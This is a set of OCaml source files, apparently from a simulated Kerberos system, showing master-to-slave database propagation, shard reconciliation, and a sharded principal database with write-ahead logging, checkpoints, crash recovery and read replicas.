                  let w = Wire.Codec.Writer.create () in
                  Wire.Codec.Writer.u32 w i;
                  Client.call_priv client chan ?deadline
                    (Bytes.cat (Bytes.of_string "PULL ")
                       (Wire.Codec.Writer.contents w))
                    ~k:(fun r ->
                      match Result.bind r (strip_reply ~prefix:"SHD ") with
                      | Error e -> k (Error e)
                      | Ok payload -> (
                          match parse_versioned_shard payload with
                          | exception Wire.Codec.Decode_error e -> k (Error e)
                          | idx, count, version, blob ->
                              if idx <> i || count <> n then
                                k (Error "kprop: mismatched pull reply")
                              else (
                                match
                                  Kdb.replace_shard_from_bytes ~version db i blob
                                with
                                | () ->
                                    incr pulled;
                                    note_reconciled metrics i;
                                    next ()
                                | exception Wire.Codec.Decode_error e ->
                                    k (Error e))))
                in
                let push i ~version ~next =
                  let msg =
                    Bytes.cat (Bytes.of_string "SHDV ")
                      (versioned_shard_msg ~db ~shard:i ~version)
                  in
                  Client.call_priv client chan ?deadline msg
                    ~k:
                      (expect_ok ~k:(function
                        | Ok () ->
                            incr pushed;
                            next ()
                        | Error e -> k (Error e)))
                in
                let rec go i =
                  if i >= n then
                    k (Ok { examined = n; pulled = !pulled; pushed = !pushed })
                  else
                    let lv = (Kdb.version_vector db).(i) in
                    let ld = Kdb.shard_digest db i in
                    let pv, pd = peer.(i) in
                    if pd = ld then go (i + 1)
                    else if peer_wins ~peer:(pv, pd) ~local:(lv, ld) then
                      pull i ~version:pv ~next:(fun () -> go (i + 1))
                    else push i ~version:lv ~next:(fun () -> go (i + 1))
                in
                go 0
              end))
