open Kerberos

type t = {
  master : Principal.t;
  slave_db : Kdb.t;
  mutable received : int;
  mutable refused : int;
}

let propagations_received t = t.received
let pushes_refused t = t.refused

let handle t _session ~client data =
  let reply m = Some (Bytes.of_string m) in
  if not (Principal.equal client t.master) then begin
    t.refused <- t.refused + 1;
    reply "ERR only the master propagates"
  end
  else if Bytes.length data > 5 && Bytes.to_string (Bytes.sub data 0 5) = "PROP " then begin
    match Kdb.of_bytes (Bytes.sub data 5 (Bytes.length data - 5)) with
    | db ->
        Kdb.replace_from t.slave_db db;
        t.received <- t.received + 1;
        reply "OK"
    | exception Wire.Codec.Decode_error e -> reply ("ERR " ^ e)
  end
  else reply "ERR bad command"

let install_slave ?config net host ~profile ~principal ~key ~port ~master ~slave_db =
  let t = { master; slave_db; received = 0; refused = 0 } in
  let (_ : Apserver.t) =
    Apserver.install ?config net host ~profile ~principal ~key ~port
      ~handler:(Svc_telemetry.instrument net ~component:"kprop" (handle t)) ()
  in
  t

let propagate ?deadline client chan ~db ~k =
  let msg = Bytes.cat (Bytes.of_string "PROP ") (Kdb.to_bytes db) in
  Client.call_priv client chan ?deadline msg ~k:(fun r ->
      match r with
      | Error e -> k (Error e)
      | Ok data ->
          if Bytes.to_string data = "OK" then k (Ok ())
          else k (Error (Bytes.to_string data)))

(* A slave cut off by a partition misses pushes; the master's kprop job
   just runs again. Each attempt is bounded by [deadline] so a dump
   swallowed by the dead link fails over to the next try instead of
   parking the master forever; [pause] spaces the attempts out so a heal
   mid-schedule gets a chance to matter. *)
let propagate_with_retry ?(attempts = 3) ?(deadline = 2.0) ?(pause = 1.0) client
    chan ~db ~k =
  let eng = Sim.Net.engine (Client.net client) in
  let rec go n =
    propagate ~deadline client chan ~db ~k:(fun r ->
        match r with
        | Ok () -> k (Ok ())
        | Error e ->
            if n + 1 < attempts then Sim.Engine.schedule_after eng pause (fun () -> go (n + 1))
            else k (Error e))
  in
  if attempts <= 0 then k (Error "kprop: no attempts configured") else go 0
