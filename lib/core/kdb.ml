type kind = User | Service | Cross_realm

type entry = { key : bytes; kind : kind }

(* Hash-partitioned shards. [shards] is swapped wholesale (never mutated
   element-by-element across event boundaries) so a propagation installs
   either the old view or the new one — nothing in between. *)
type t = {
  mutable shards : (string, entry) Hashtbl.t array;
  mutable lookups : int array;  (* per-shard lookup counts, same length *)
  (* The few cross-realm keys, memoized: the TGS opens every presented TGT
     against this set plus its own key, so deriving it must not scan a
     realm-sized database per request. Any mutation clears it. *)
  mutable cross_realm_cache : (Principal.t * bytes) list option;
}

(* FNV-1a over the principal string: stable across runs and processes
   (Hashtbl.hash is not guaranteed to be), so a dump produced by one
   process lands in the same shards on another. *)
let fnv1a s =
  let h = ref 0x811c9dc5 in
  String.iter
    (fun c -> h := (!h lxor Char.code c) * 0x01000193 land 0xffffffff)
    s;
  !h

let create ?(shards = 1) () =
  if shards < 1 then invalid_arg "Kdb.create: shards must be >= 1";
  { shards = Array.init shards (fun _ -> Hashtbl.create 32);
    lookups = Array.make shards 0;
    cross_realm_cache = None }

let shard_count t = Array.length t.shards
let shard_of_name t name = fnv1a name mod Array.length t.shards
let shard_of t principal = shard_of_name t (Principal.to_string principal)
let shard_lookups t = Array.copy t.lookups

let add t principal entry =
  let name = Principal.to_string principal in
  t.cross_realm_cache <- None;
  Hashtbl.replace t.shards.(shard_of_name t name) name entry

let add_user t principal ~password =
  add t principal { key = Crypto.Str2key.derive password; kind = User }

let add_service t principal ~key = add t principal { key; kind = Service }
let add_cross_realm t principal ~key = add t principal { key; kind = Cross_realm }

let lookup t principal =
  let name = Principal.to_string principal in
  let i = shard_of_name t name in
  t.lookups.(i) <- t.lookups.(i) + 1;
  Hashtbl.find_opt t.shards.(i) name

let fold f t acc =
  Array.fold_left
    (fun acc shard -> Hashtbl.fold (fun name e acc -> f name e acc) shard acc)
    acc t.shards

let principals t =
  fold (fun name _ acc -> Principal.of_string name :: acc) t []
  |> List.sort Principal.compare

let cross_realm_keys t =
  match t.cross_realm_cache with
  | Some l -> l
  | None ->
      let l =
        fold
          (fun name e acc ->
            if e.kind = Cross_realm then (Principal.of_string name, e.key) :: acc
            else acc)
          t []
        |> List.sort (fun (a, _) (b, _) -> Principal.compare a b)
      in
      t.cross_realm_cache <- Some l;
      l

let kind_code = function User -> 0 | Service -> 1 | Cross_realm -> 2

let kind_of_code = function
  | 0 -> User
  | 1 -> Service
  | 2 -> Cross_realm
  | _ -> Wire.Codec.fail "kdb: unknown principal kind"

let entries_to_bytes entries =
  let w = Wire.Codec.Writer.create () in
  let entries = List.sort (fun (a, _) (b, _) -> compare a b) entries in
  Wire.Codec.Writer.u32 w (List.length entries);
  List.iter
    (fun (name, e) ->
      Wire.Codec.Writer.lstring w name;
      Wire.Codec.Writer.u8 w (kind_code e.kind);
      Wire.Codec.Writer.lbytes w e.key)
    entries;
  Wire.Codec.Writer.contents w

let to_bytes t = entries_to_bytes (fold (fun name e acc -> (name, e) :: acc) t [])

let shard_to_bytes t i =
  if i < 0 || i >= Array.length t.shards then invalid_arg "Kdb.shard_to_bytes";
  entries_to_bytes
    (Hashtbl.fold (fun name e acc -> (name, e) :: acc) t.shards.(i) [])

(* Decode a dump into a fresh table first; only a fully decoded blob is
   ever made visible to readers. *)
let entries_of_bytes b =
  let r = Wire.Codec.Reader.of_bytes b in
  let n = Wire.Codec.Reader.u32 r in
  let tbl = Hashtbl.create (max 32 n) in
  for _ = 1 to n do
    let name = Wire.Codec.Reader.lstring r in
    let kind = kind_of_code (Wire.Codec.Reader.u8 r) in
    let key = Wire.Codec.Reader.lbytes r in
    Hashtbl.replace tbl name { key; kind }
  done;
  Wire.Codec.Reader.expect_end r;
  tbl

let of_bytes b =
  let tbl = entries_of_bytes b in
  let t = create () in
  t.shards <- [| tbl |];
  t

let replace_shard_from_bytes t i b =
  if i < 0 || i >= Array.length t.shards then
    invalid_arg "Kdb.replace_shard_from_bytes";
  let tbl = entries_of_bytes b in
  Hashtbl.iter
    (fun name _ ->
      if shard_of_name t name <> i then
        Wire.Codec.fail
          (Printf.sprintf "kdb: %s does not belong in shard %d" name i))
    tbl;
  t.cross_realm_cache <- None;
  t.shards.(i) <- tbl

let replace_from dst src =
  let n = Array.length dst.shards in
  let fresh = Array.init n (fun _ -> Hashtbl.create 32) in
  Array.iter
    (fun shard ->
      Hashtbl.iter
        (fun name e -> Hashtbl.replace fresh.(shard_of_name dst name) name e)
        shard)
    src.shards;
  dst.cross_realm_cache <- None;
  dst.shards <- fresh

let size t = Array.fold_left (fun acc s -> acc + Hashtbl.length s) 0 t.shards
let shard_sizes t = Array.map Hashtbl.length t.shards
