type kind = User | Service | Cross_realm

type entry = { key : bytes; kind : kind }

let kind_code = function User -> 0 | Service -> 1 | Cross_realm -> 2

let kind_of_code = function
  | 0 -> User
  | 1 -> Service
  | 2 -> Cross_realm
  | _ -> Wire.Codec.fail "kdb: unknown principal kind"

let entries_to_bytes entries =
  let w = Wire.Codec.Writer.create () in
  let entries = List.sort (fun (a, _) (b, _) -> compare a b) entries in
  Wire.Codec.Writer.u32 w (List.length entries);
  List.iter
    (fun (name, e) ->
      Wire.Codec.Writer.lstring w name;
      Wire.Codec.Writer.u8 w (kind_code e.kind);
      Wire.Codec.Writer.lbytes w e.key)
    entries;
  Wire.Codec.Writer.contents w

(* Decode a dump into a fresh table first; only a fully decoded blob is
   ever made visible to readers. Names are validated as principals here so
   a corrupted dump surfaces as a [Decode_error] at the trust boundary,
   not as an [Invalid_argument] from [principals] long after the swap. *)
let entries_of_bytes b =
  let r = Wire.Codec.Reader.of_bytes b in
  let n = Wire.Codec.Reader.u32 r in
  let tbl = Hashtbl.create (max 32 (min n 65536)) in
  for _ = 1 to n do
    let name = Wire.Codec.Reader.lstring r in
    (match Principal.of_string name with
    | (_ : Principal.t) -> ()
    | exception Invalid_argument _ ->
        Wire.Codec.fail "kdb: malformed principal name");
    let kind = kind_of_code (Wire.Codec.Reader.u8 r) in
    let key = Wire.Codec.Reader.lbytes r in
    Hashtbl.replace tbl name { key; kind }
  done;
  Wire.Codec.Reader.expect_end r;
  tbl

(* The write-ahead log. Every mutation is rendered as a CRC-framed record
   and appended {e before} the in-memory tables change, so the log image
   captured at any crash instant covers at least everything a reader could
   have observed. A frame is [u32 len; u32 crc32(payload); payload]; the
   payload carries the shard index, the shard's post-mutation version
   (monotonic mutation counter — the same number the anti-entropy version
   vectors compare), and the operation itself. *)
module Wal = struct
  type op =
    | Put of string * entry  (* single-principal upsert *)
    | Swap of bytes          (* whole-shard replacement (propagation) *)

  type record = { w_shard : int; w_version : int; w_op : op }

  type t = {
    (* Newest first. Each frame carries its log sequence number: LSNs are
       assigned at append time from the lifetime counter, so they survive
       checkpoint truncation and give replicas a stable replication
       cursor. *)
    mutable frames : (int * record * bytes) list;
    mutable count : int;
    mutable bytes : int;
    mutable appended : int;  (* lifetime appends; survives truncation *)
  }

  let create () = { frames = []; count = 0; bytes = 0; appended = 0 }

  let payload_of_record r =
    let w = Wire.Codec.Writer.create () in
    Wire.Codec.Writer.u32 w r.w_shard;
    Wire.Codec.Writer.i64 w (Int64.of_int r.w_version);
    (match r.w_op with
    | Put (name, e) ->
        Wire.Codec.Writer.u8 w 0;
        Wire.Codec.Writer.lstring w name;
        Wire.Codec.Writer.u8 w (kind_code e.kind);
        Wire.Codec.Writer.lbytes w e.key
    | Swap b ->
        Wire.Codec.Writer.u8 w 1;
        Wire.Codec.Writer.lbytes w b);
    Wire.Codec.Writer.contents w

  let frame payload =
    let w = Wire.Codec.Writer.create () in
    Wire.Codec.Writer.u32 w (Bytes.length payload);
    Wire.Codec.Writer.u32 w (Crypto.Crc32.bytes_digest payload);
    Wire.Codec.Writer.raw w payload;
    Wire.Codec.Writer.contents w

  let append t r =
    let fb = frame (payload_of_record r) in
    let lsn = t.appended + 1 in
    t.frames <- (lsn, r, fb) :: t.frames;
    t.count <- t.count + 1;
    t.bytes <- t.bytes + Bytes.length fb;
    t.appended <- lsn

  let length t = t.count
  let byte_size t = t.bytes
  let appended t = t.appended
  let records t = List.rev_map (fun (_, r, _) -> r) t.frames

  (* The head LSN is the newest record ever appended; a replica whose
     applied LSN equals it has seen everything. *)
  let head_lsn t = t.appended

  (* Oldest LSN the log still holds. When the log is empty (everything
     behind the last checkpoint) this is head+1: a replica at exactly the
     head needs nothing, anything older must catch up via checkpoint. *)
  let first_retained_lsn t =
    match t.frames with
    | [] -> t.appended + 1
    | frames ->
        let rec oldest = function
          | [ (l, _, _) ] -> l
          | _ :: tl -> oldest tl
          | [] -> assert false
        in
        oldest frames

  let contents t =
    let buf = Buffer.create (max 64 t.bytes) in
    List.iter (fun (_, _, fb) -> Buffer.add_bytes buf fb) (List.rev t.frames);
    Buffer.to_bytes buf

  (* Replication shipment: every retained frame past [lsn], oldest first,
     each prefixed with its LSN — [i64 lsn; u32 len; u32 crc; payload]
     repeated. Reuses the already-rendered frame bytes, so shipping costs
     a concatenation, not a re-encode. *)
  let ship_since t ~lsn =
    let w = Wire.Codec.Writer.create () in
    List.iter
      (fun (l, _, fb) ->
        if l > lsn then begin
          Wire.Codec.Writer.i64 w (Int64.of_int l);
          Wire.Codec.Writer.raw w fb
        end)
      (List.rev t.frames);
    Wire.Codec.Writer.contents w

  let record_of_payload p =
    let r = Wire.Codec.Reader.of_bytes p in
    let w_shard = Wire.Codec.Reader.u32 r in
    let w_version = Int64.to_int (Wire.Codec.Reader.i64 r) in
    let w_op =
      match Wire.Codec.Reader.u8 r with
      | 0 ->
          let name = Wire.Codec.Reader.lstring r in
          let kind = kind_of_code (Wire.Codec.Reader.u8 r) in
          let key = Wire.Codec.Reader.lbytes r in
          Put (name, { key; kind })
      | 1 -> Swap (Wire.Codec.Reader.lbytes r)
      | _ -> Wire.Codec.fail "wal: unknown opcode"
    in
    Wire.Codec.Reader.expect_end r;
    { w_shard; w_version; w_op }

  (* Replay stops cleanly at the first torn or corrupt frame: a crash can
     leave a half-written record at the tail, and the fault plane can flip
     bits anywhere, so everything from the first frame that fails its
     length or CRC check is untrusted and reported as discarded. *)
  let replay b =
    let total = Bytes.length b in
    let r = Wire.Codec.Reader.of_bytes b in
    let recs = ref [] in
    let consumed_ok = ref 0 in
    (try
       while Wire.Codec.Reader.remaining r > 0 do
         let len = Wire.Codec.Reader.u32 r in
         let crc = Wire.Codec.Reader.u32 r in
         if len > Wire.Codec.Reader.remaining r then
           Wire.Codec.fail "wal: torn frame";
         let payload = Wire.Codec.Reader.raw r len in
         if Crypto.Crc32.bytes_digest payload <> crc then
           Wire.Codec.fail "wal: crc mismatch";
         recs := record_of_payload payload :: !recs;
         consumed_ok := total - Wire.Codec.Reader.remaining r
       done
     with Wire.Codec.Decode_error _ -> ());
    (List.rev !recs, total - !consumed_ok)

  (* Decode a shipment with the same torn-tail tolerance as {!replay}: a
     shipment cut mid-frame (lossy link, crashed shipper) yields the clean
     prefix plus a discarded byte count; the replica simply acks the
     prefix and asks again. *)
  let replay_shipment b =
    let total = Bytes.length b in
    let r = Wire.Codec.Reader.of_bytes b in
    let recs = ref [] in
    let consumed_ok = ref 0 in
    (try
       while Wire.Codec.Reader.remaining r > 0 do
         let lsn = Int64.to_int (Wire.Codec.Reader.i64 r) in
         let len = Wire.Codec.Reader.u32 r in
         let crc = Wire.Codec.Reader.u32 r in
         if len > Wire.Codec.Reader.remaining r then
           Wire.Codec.fail "wal: torn shipment frame";
         let payload = Wire.Codec.Reader.raw r len in
         if Crypto.Crc32.bytes_digest payload <> crc then
           Wire.Codec.fail "wal: shipment crc mismatch";
         recs := (lsn, record_of_payload payload) :: !recs;
         consumed_ok := total - Wire.Codec.Reader.remaining r
       done
     with Wire.Codec.Decode_error _ -> ());
    (List.rev !recs, total - !consumed_ok)

  (* Drop every record the checkpoint already covers: record versions are
     monotonic per shard, and a checkpoint taken at version vector [V]
     makes any record with [w_version <= V.(w_shard)] redundant. *)
  let truncate_after_checkpoint t ~versions =
    let keep =
      List.filter
        (fun (_, r, _) ->
          r.w_shard >= Array.length versions
          || r.w_version > versions.(r.w_shard))
        t.frames
    in
    t.frames <- keep;
    t.count <- List.length keep;
    t.bytes <- List.fold_left (fun a (_, _, fb) -> a + Bytes.length fb) 0 keep
end

(* Durable state: the log plus the last checkpoint image. [every = 0]
   means checkpoints are manual only. *)
type durable = {
  d_wal : Wal.t;
  mutable d_checkpoint : bytes;
  d_every : int;
  mutable d_since : int;       (* mutations since the last checkpoint *)
  mutable d_checkpoints : int; (* checkpoints taken, incl. the initial one *)
}

(* Hash-partitioned shards. [shards] is swapped wholesale (never mutated
   element-by-element across event boundaries) so a propagation installs
   either the old view or the new one — nothing in between. *)
type t = {
  mutable shards : (string, entry) Hashtbl.t array;
  mutable lookups : int array;  (* per-shard lookup counts, same length *)
  (* Per-shard monotonic mutation counters — bumped on every mutation,
     stamped into WAL records, and compared by anti-entropy
     reconciliation as a version vector. *)
  mutable versions : int array;
  (* The few cross-realm keys, memoized: the TGS opens every presented TGT
     against this set plus its own key, so deriving it must not scan a
     realm-sized database per request. Any mutation clears it. *)
  mutable cross_realm_cache : (Principal.t * bytes) list option;
  mutable durable : durable option;
  (* On-demand materialization for realm-scale load runs: a lookup miss
     consults the provider, and anything it supplies is memoized in a side
     table — never the shards, so the propagation/durability surface
     (dumps, digests, WAL, reconciliation) is exactly the registered
     population. *)
  mutable lazy_provider : (string -> entry option) option;
  lazy_memo : (string, entry) Hashtbl.t;
}

(* FNV-1a over the principal string: stable across runs and processes
   (Hashtbl.hash is not guaranteed to be), so a dump produced by one
   process lands in the same shards on another. *)
let fnv1a s =
  let h = ref 0x811c9dc5 in
  String.iter
    (fun c -> h := (!h lxor Char.code c) * 0x01000193 land 0xffffffff)
    s;
  !h

let create ?(shards = 1) () =
  if shards < 1 then invalid_arg "Kdb.create: shards must be >= 1";
  { shards = Array.init shards (fun _ -> Hashtbl.create 32);
    lookups = Array.make shards 0;
    versions = Array.make shards 0;
    cross_realm_cache = None;
    durable = None;
    lazy_provider = None;
    lazy_memo = Hashtbl.create 64 }

let shard_count t = Array.length t.shards
let shard_of_name t name = fnv1a name mod Array.length t.shards
let shard_of t principal = shard_of_name t (Principal.to_string principal)
let shard_lookups t = Array.copy t.lookups
let version_vector t = Array.copy t.versions
let durable t = t.durable <> None
let wal t = Option.map (fun d -> d.d_wal) t.durable
let checkpoints_taken t =
  match t.durable with None -> 0 | Some d -> d.d_checkpoints

let set_lazy_provider t f = t.lazy_provider <- Some f
let lazy_materialized t = Hashtbl.length t.lazy_memo

let lookup t principal =
  let name = Principal.to_string principal in
  let i = shard_of_name t name in
  t.lookups.(i) <- t.lookups.(i) + 1;
  match Hashtbl.find_opt t.shards.(i) name with
  | Some _ as r -> r
  | None -> (
      match t.lazy_provider with
      | None -> None
      | Some provide -> (
          match Hashtbl.find_opt t.lazy_memo name with
          | Some _ as r -> r
          | None -> (
              match provide name with
              | Some e as r ->
                  Hashtbl.add t.lazy_memo name e;
                  r
              | None -> None)))

let fold f t acc =
  Array.fold_left
    (fun acc shard -> Hashtbl.fold (fun name e acc -> f name e acc) shard acc)
    acc t.shards

let principals t =
  fold (fun name _ acc -> Principal.of_string name :: acc) t []
  |> List.sort Principal.compare

let cross_realm_keys t =
  match t.cross_realm_cache with
  | Some l -> l
  | None ->
      let l =
        fold
          (fun name e acc ->
            if e.kind = Cross_realm then (Principal.of_string name, e.key) :: acc
            else acc)
          t []
        |> List.sort (fun (a, _) (b, _) -> Principal.compare a b)
      in
      t.cross_realm_cache <- Some l;
      l

let to_bytes t = entries_to_bytes (fold (fun name e acc -> (name, e) :: acc) t [])

let shard_to_bytes t i =
  if i < 0 || i >= Array.length t.shards then invalid_arg "Kdb.shard_to_bytes";
  entries_to_bytes
    (Hashtbl.fold (fun name e acc -> (name, e) :: acc) t.shards.(i) [])

let shard_digest t i = Crypto.Crc32.bytes_digest (shard_to_bytes t i)
let digests t = Array.init (Array.length t.shards) (shard_digest t)

(* Checkpoint image: CRC-guarded [shard_count; (version, dump) per shard].
   Written atomically (the invariant the WAL's torn-tail tolerance rests
   on): a crash leaves either the previous checkpoint or the new one. *)
let checkpoint_to_bytes t =
  let w = Wire.Codec.Writer.create () in
  let n = Array.length t.shards in
  Wire.Codec.Writer.u32 w n;
  for i = 0 to n - 1 do
    Wire.Codec.Writer.i64 w (Int64.of_int t.versions.(i));
    Wire.Codec.Writer.lbytes w (shard_to_bytes t i)
  done;
  let body = Wire.Codec.Writer.contents w in
  let fw = Wire.Codec.Writer.create () in
  Wire.Codec.Writer.u32 fw (Crypto.Crc32.bytes_digest body);
  Wire.Codec.Writer.raw fw body;
  Wire.Codec.Writer.contents fw

let checkpoint t =
  match t.durable with
  | None -> invalid_arg "Kdb.checkpoint: durability not enabled"
  | Some d ->
      d.d_checkpoint <- checkpoint_to_bytes t;
      Wal.truncate_after_checkpoint d.d_wal ~versions:t.versions;
      d.d_since <- 0;
      d.d_checkpoints <- d.d_checkpoints + 1

let maybe_checkpoint t =
  match t.durable with
  | Some d when d.d_every > 0 && d.d_since >= d.d_every -> checkpoint t
  | _ -> ()

let enable_durability ?(checkpoint_every = 0) t =
  let d =
    { d_wal = Wal.create ();
      d_checkpoint = Bytes.empty;
      d_every = checkpoint_every;
      d_since = 0;
      d_checkpoints = 1 }
  in
  d.d_checkpoint <- checkpoint_to_bytes t;
  t.durable <- Some d

let disk_image t =
  Option.map (fun d -> (d.d_checkpoint, Wal.contents d.d_wal)) t.durable

(* Append-before-apply: the record hits the log before the caller touches
   the tables, so the disk image at any crash instant is never behind the
   in-memory state a client could have observed. *)
let log_mutation t i v op =
  match t.durable with
  | None -> ()
  | Some d ->
      Wal.append d.d_wal { Wal.w_shard = i; w_version = v; w_op = op };
      d.d_since <- d.d_since + 1

let add t principal entry =
  let name = Principal.to_string principal in
  let i = shard_of_name t name in
  let v = t.versions.(i) + 1 in
  log_mutation t i v (Wal.Put (name, entry));
  t.versions.(i) <- v;
  t.cross_realm_cache <- None;
  (* A real registration supersedes any materialized-on-demand entry (a
     password change must not resurrect the old key from the memo). *)
  Hashtbl.remove t.lazy_memo name;
  Hashtbl.replace t.shards.(i) name entry;
  maybe_checkpoint t

let add_user t principal ~password =
  add t principal { key = Crypto.Str2key.derive password; kind = User }

let add_service t principal ~key = add t principal { key; kind = Service }
let add_cross_realm t principal ~key = add t principal { key; kind = Cross_realm }

let of_bytes b =
  let tbl = entries_of_bytes b in
  let t = create () in
  t.shards <- [| tbl |];
  t

let replace_shard_from_bytes ?version t i b =
  if i < 0 || i >= Array.length t.shards then
    invalid_arg "Kdb.replace_shard_from_bytes";
  let tbl = entries_of_bytes b in
  Hashtbl.iter
    (fun name _ ->
      if shard_of_name t name <> i then
        Wire.Codec.fail
          (Printf.sprintf "kdb: %s does not belong in shard %d" name i))
    tbl;
  (* A reconcile install adopts the winner's version; a plain propagation
     counts as one local mutation. *)
  let v = match version with Some v -> v | None -> t.versions.(i) + 1 in
  log_mutation t i v (Wal.Swap b);
  t.versions.(i) <- v;
  t.cross_realm_cache <- None;
  t.shards.(i) <- tbl;
  maybe_checkpoint t

let replace_from dst src =
  let n = Array.length dst.shards in
  let fresh = Array.init n (fun _ -> Hashtbl.create 32) in
  Array.iter
    (fun shard ->
      Hashtbl.iter
        (fun name e -> Hashtbl.replace fresh.(shard_of_name dst name) name e)
        shard)
    src.shards;
  (* Log every shard's new contents before the swap becomes visible. *)
  Array.iteri
    (fun i tbl ->
      let v = dst.versions.(i) + 1 in
      if dst.durable <> None then
        log_mutation dst i v
          (Wal.Swap
             (entries_to_bytes
                (Hashtbl.fold (fun name e acc -> (name, e) :: acc) tbl [])));
      dst.versions.(i) <- v)
    fresh;
  dst.cross_realm_cache <- None;
  dst.shards <- fresh;
  maybe_checkpoint dst

(* Model a crash's memory loss: every table, counter and the attached
   durable state vanish; only a previously captured {!disk_image}
   survives, elsewhere. *)
let wipe t =
  let n = Array.length t.shards in
  t.shards <- Array.init n (fun _ -> Hashtbl.create 32);
  t.lookups <- Array.make n 0;
  t.versions <- Array.make n 0;
  t.cross_realm_cache <- None;
  t.durable <- None;
  t.lazy_provider <- None;
  Hashtbl.reset t.lazy_memo

type recovery = {
  recovered : t;
  applied : int;
  skipped : int;
  discarded_bytes : int;
}

let recover ~checkpoint ~wal =
  let r = Wire.Codec.Reader.of_bytes checkpoint in
  let crc = Wire.Codec.Reader.u32 r in
  let body = Wire.Codec.Reader.raw r (Wire.Codec.Reader.remaining r) in
  if Crypto.Crc32.bytes_digest body <> crc then
    Wire.Codec.fail "kdb: corrupt checkpoint";
  let br = Wire.Codec.Reader.of_bytes body in
  let n = Wire.Codec.Reader.u32 br in
  if n < 1 || n > 65536 then Wire.Codec.fail "kdb: bad checkpoint shard count";
  let t = create ~shards:n () in
  for i = 0 to n - 1 do
    t.versions.(i) <- Int64.to_int (Wire.Codec.Reader.i64 br);
    t.shards.(i) <- entries_of_bytes (Wire.Codec.Reader.lbytes br)
  done;
  Wire.Codec.Reader.expect_end br;
  let recs, discarded_bytes = Wal.replay wal in
  let applied = ref 0 and skipped = ref 0 in
  List.iter
    (fun (rc : Wal.record) ->
      if
        rc.w_shard < 0 || rc.w_shard >= n
        || rc.w_version <= t.versions.(rc.w_shard)
      then incr skipped
      else
        match rc.w_op with
        | Wal.Put (name, e) ->
            Hashtbl.replace t.shards.(rc.w_shard) name e;
            t.versions.(rc.w_shard) <- rc.w_version;
            incr applied
        | Wal.Swap b -> (
            match entries_of_bytes b with
            | tbl ->
                t.shards.(rc.w_shard) <- tbl;
                t.versions.(rc.w_shard) <- rc.w_version;
                incr applied
            | exception Wire.Codec.Decode_error _ -> incr skipped))
    recs;
  t.cross_realm_cache <- None;
  { recovered = t; applied = !applied; skipped = !skipped; discarded_bytes }

(* Install a recovery in place (the database object is shared with the
   KDC's routes and with tests, so recovery must not change its identity).
   Unlike {!replace_from} this adopts the recovered version vector as-is
   and logs nothing — it {e is} the log's effect. *)
let restore t (r : recovery) =
  let src = r.recovered in
  if Array.length src.shards <> Array.length t.shards then
    invalid_arg "Kdb.restore: shard count mismatch";
  t.shards <- src.shards;
  t.versions <- src.versions;
  t.lookups <- Array.make (Array.length src.shards) 0;
  t.cross_realm_cache <- None

let size t = Array.fold_left (fun acc s -> acc + Hashtbl.length s) 0 t.shards
let shard_sizes t = Array.map Hashtbl.length t.shards

let head_lsn t =
  match t.durable with
  | None -> invalid_arg "Kdb.head_lsn: durability not enabled"
  | Some d -> Wal.head_lsn d.d_wal

(* ------------------------------------------------------------------ *)
(* Read replicas.

   A replica is a same-shape database fed from the primary's WAL: the
   primary ships every frame past the replica's applied LSN, and the
   replica materializes each record {e before} advancing its ack point
   (apply-before-ack), so an acked LSN is never ahead of visible state.
   A replica that falls behind the log's retained tail — the primary
   checkpointed and truncated past it — catches up from the checkpoint
   image plus the tail, exactly the recovery path a crashed primary
   takes. *)

type replica = {
  rep_name : string;
  rep_primary : t;
  rep_db : t;  (* same shard count; only subscribed shards materialized *)
  rep_mask : bool array;  (* shard subscription *)
  mutable rep_applied : int;  (* highest WAL LSN acked *)
  mutable rep_live : bool;
  mutable rep_records_applied : int;  (* records materialized, lifetime *)
  mutable rep_catchups : int;  (* checkpoint+tail catch-ups, incl. bootstrap *)
  rep_c_applied : Telemetry.Metrics.counter option;
  rep_g_lag : Telemetry.Metrics.gauge option;
}

let replica_name r = r.rep_name
let replica_db r = r.rep_db
let replica_live r = r.rep_live
let replica_applied_lsn r = r.rep_applied
let replica_records_applied r = r.rep_records_applied
let replica_catchups r = r.rep_catchups

let replica_covers r shard =
  shard >= 0 && shard < Array.length r.rep_mask && r.rep_mask.(shard)

let replica_lag t r =
  match t.durable with
  | None -> 0
  | Some d -> Wal.head_lsn d.d_wal - r.rep_applied

(* Materialize one shipped record on the replica, guarded the same way
   {!recover} guards replayed records: out-of-range shards, already-seen
   versions and undecodable swaps are skipped (but still acked — they are
   ordered before the ack point by construction). *)
let replica_apply_record r (rc : Wal.record) =
  let db = r.rep_db in
  if
    rc.Wal.w_shard < 0
    || rc.Wal.w_shard >= Array.length db.shards
    || (not r.rep_mask.(rc.Wal.w_shard))
    || rc.Wal.w_version <= db.versions.(rc.Wal.w_shard)
  then false
  else
    match rc.Wal.w_op with
    | Wal.Put (name, e) ->
        Hashtbl.replace db.shards.(rc.Wal.w_shard) name e;
        db.versions.(rc.Wal.w_shard) <- rc.Wal.w_version;
        db.cross_realm_cache <- None;
        true
    | Wal.Swap b -> (
        match entries_of_bytes b with
        | tbl ->
            db.shards.(rc.Wal.w_shard) <- tbl;
            db.versions.(rc.Wal.w_shard) <- rc.Wal.w_version;
            db.cross_realm_cache <- None;
            true
        | exception Wire.Codec.Decode_error _ -> false)

(* Apply a shipment in LSN order. The ack ([rep_applied]) advances only
   after each record's effect is visible — a reader routed to this
   replica at lag computed from the ack can never observe state older
   than the ack claims. *)
let replica_apply r shipment =
  let recs, _discarded = Wal.replay_shipment shipment in
  let applied = ref 0 in
  List.iter
    (fun (lsn, rc) ->
      if lsn > r.rep_applied then begin
        if replica_apply_record r rc then begin
          incr applied;
          r.rep_records_applied <- r.rep_records_applied + 1
        end;
        r.rep_applied <- lsn
      end)
    recs;
  (match r.rep_c_applied with
  | Some c when !applied > 0 -> Telemetry.Metrics.add c !applied
  | _ -> ());
  !applied

(* Checkpoint + tail: install the primary's last checkpoint image for
   the subscribed shards, then apply the retained WAL tail. This is both
   the bootstrap path and the catch-up path taken when the primary has
   truncated the log past the replica's ack point. *)
let replica_catch_up r =
  let t = r.rep_primary in
  match t.durable with
  | None -> invalid_arg "Kdb.replica_catch_up: durability not enabled"
  | Some d ->
      let reader = Wire.Codec.Reader.of_bytes d.d_checkpoint in
      let crc = Wire.Codec.Reader.u32 reader in
      let body =
        Wire.Codec.Reader.raw reader (Wire.Codec.Reader.remaining reader)
      in
      if Crypto.Crc32.bytes_digest body <> crc then
        Wire.Codec.fail "kdb: corrupt checkpoint";
      let br = Wire.Codec.Reader.of_bytes body in
      let n = Wire.Codec.Reader.u32 br in
      if n <> Array.length t.shards then
        Wire.Codec.fail "kdb: checkpoint shard count mismatch";
